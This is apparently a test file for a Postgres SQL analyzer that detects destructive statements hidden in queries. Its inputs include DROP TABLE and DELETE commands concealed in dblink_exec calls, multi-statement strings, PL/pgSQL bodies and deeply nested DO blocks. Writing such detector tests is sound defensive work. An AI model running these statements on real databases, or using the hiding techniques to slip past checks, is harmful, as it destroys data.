    expect(factsOf("SELECT dblink_exec('dbname=x', 'DROP TABLE t')").nested).toMatchObject([{ kind: 'drop_table' }]);
    expect(factsOf('SELECT query_to_xml(q, true, false, $$$$) FROM queries').opaqueBodies).toHaveLength(1);
  });
});

describe('multi-statement strings', () => {
  test('each statement is analysed', () => {
    expect(statementsOf('SELECT 1; DROP TABLE x; UPDATE t SET a = 1').map((s) => s.kind)).toEqual(['select', 'drop_table', 'update']);
  });

  test('a PL/pgSQL body is sliced by bytes, so multi-byte text before it does not shift it', () => {
    const s = statementsOf("SELECT 'é€😀'; CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$");
    expect(s[1].nested).toMatchObject([{ kind: 'delete' }]);
    expect(s[1].opaqueBodies).toEqual([]);
  });
});

describe('nesting depth', () => {
  function nestedDo(levels: number): string {
    let body = 'DROP TABLE x;';
    for (let i = 0; i < levels; i++) body = `DO $d${i}$ BEGIN ${body} END $d${i}$;`;
    return body;
  }

  test('31 nested DO blocks are analysed down to the DROP', () => {
    const s = statementsOf(nestedDo(31));
    expect(flatten(s).some((n) => n.kind === 'drop_table')).toBe(true);
    expect(s[0].tablesWritten).toEqual([{ name: 'x' }]);
  });

  test('more than 32 levels is too_complex', async () => {
    const { analyzePostgres } = await import('./analyze-postgres.js');
    const a = analyzePostgres(nestedDo(40));
    expect(a.ok).toBe(false);
    if (!a.ok) expect(a.failure.kind).toBe('too_complex');
  });
});
